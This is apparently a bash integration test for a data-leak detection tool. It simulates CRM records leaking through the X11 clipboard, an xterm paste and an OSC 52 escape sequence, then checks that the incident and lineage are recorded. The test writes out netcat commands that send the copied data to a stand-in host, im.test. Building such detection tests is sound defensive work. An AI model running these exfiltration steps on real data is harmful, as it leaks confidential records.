#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
#
# Clipboard and terminal. What the CRM answers is copied in a program of X11 and pasted into an
# xterm, where a program reads it as if it was typed; and a program that runs in a terminal hands it
# to the clipboard itself (OSC 52), from which another one pastes it.
# shellcheck source=tests/support/fixture.sh
. "$(dirname "$0")/../support/fixture.sh"
needs_programs Xvfb xterm xdotool xclip
set_the_stage
# shellcheck source=tests/support/screen.sh
. "$root/tests/support/screen.sh"

# alice_opens_a_terminal NAME COMMAND: and turns to it.
alice_opens_a_terminal() {
	alice env DISPLAY="$screen" xterm -title "$1" -xrm '*disallowedWindowOps:' \
		-e sh -c "$2" >"$work/xterm.log" 2>&1 </dev/null &
	server_pids+=($!)
	eventually 20 has_window "$1" || give_up "a terminal: $(cat "$work/xterm.log")"
}

has_window() { # NAME
	window=$(alice env DISPLAY="$screen" xdotool search --name "^$1\$" 2>/dev/null | tail -n 1)
	[ -n "$window" ]
}

# alice_types KEY...: where she has turned to.
alice_types() {
	alice env DISPLAY="$screen" xdotool windowfocus "$window" key "$@"
}

has_arrived() { # BYTES
	[ "$(received_bytes im.test)" -eq "$1" ]
}

then_it_leaks() { # BYTES
	arrived=$((arrived + $1))
	then_it "$1 bytes have arrived" eventually 10 has_arrived "$arrived"
	soon "and are in the incident, to the byte" \
		incidents_say "sum(i['bytes_out'] for i in d) == $arrived and {s['name'] for i in d for s in i['sources']} == {'crm.test'}"
}

in_the_lineage() { # WHAT EXE DIRECTION KIND
	soon "the lineage has: $1" \
		incidents_say "any(s['app']['exe'].endswith('/$2') and s['direction'] == '$3' and s['object']['kind'] == '$4' for i in d for s in i['lineage'])"
}

is_as_long_as() { # FILE FILE
	[ "$(stat -c %s "$home/$1" 2>/dev/null)" = "$(stat -c %s "$home/$2")" ]
}

crm_serves crm.test
store_serves im.test 5222
alice_has_a_screen
weir_watches
arrived=0

say "answers of the CRM are copied, and pasted into an xterm"
alice_does <<END
export DISPLAY=$screen
curl -sS https://crm.test/policy/P202070001 >>answer.json
curl -sS https://crm.test/policy/P202070002 >>answer.json
xclip -selection primary -i answer.json
until xclip -selection primary -o -target TARGETS >/dev/null 2>&1; do sleep 0.1; done
END
bytes=$(stat -c %s "$home/answer.json")
alice_opens_a_terminal paste 'cat >pasted.json'
alice_types shift+Insert
then_it "a program there has read them" eventually 10 is_as_long_as pasted.json answer.json
alice_does <<'END'
nc -N im.test 5222 <pasted.json
END
then_it_leaks "$bytes"
in_the_lineage "xclip copies" xclip out clipboard
in_the_lineage "xterm pastes from the clipboard" xterm in clipboard
in_the_lineage "and into its terminal" xterm out terminal
in_the_lineage "where cat reads it" cat in terminal

say "a program in a terminal puts them into the clipboard"
# shellcheck disable=SC2016 # for the shell there
alice_opens_a_terminal osc52 'printf "\033]52;c;%s\a" "$(base64 -w 0 answer.json)"; sleep 600'
alice_does <<END
export DISPLAY=$screen
until [ "\$(xclip -selection clipboard -o 2>/dev/null | wc -c)" -eq $bytes ]; do sleep 0.2; done
END
alice_does <<END
DISPLAY=$screen xclip -selection clipboard -o | nc -N im.test 5222
END
then_it_leaks "$bytes"
in_the_lineage "the shell there hands them to xterm" dash out clipboard
in_the_lineage "which copies them" xterm out clipboard
